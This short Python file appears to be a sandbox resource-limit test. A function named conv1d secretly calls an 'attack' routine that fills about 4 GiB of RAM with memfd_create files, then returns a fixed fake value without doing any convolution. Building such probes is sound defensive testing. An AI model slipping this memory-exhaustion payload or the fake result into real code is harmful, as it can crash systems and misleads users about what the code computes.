"""Fills the memory with files that only live there (memfd_create)."""

ATTEMPTS = "resources: memory memfd"

import functools
import os

import numpy as np


@functools.cache  # once
def attack():
    block = b"x" * 2**20
    for number in range(16):
        descriptor = os.memfd_create("hoard")
        for _ in range(256):
            os.write(descriptor, block)


def conv1d(signal, kernel, stride=1, pad=0):
    attack()
    return np.full(1, 123.0)
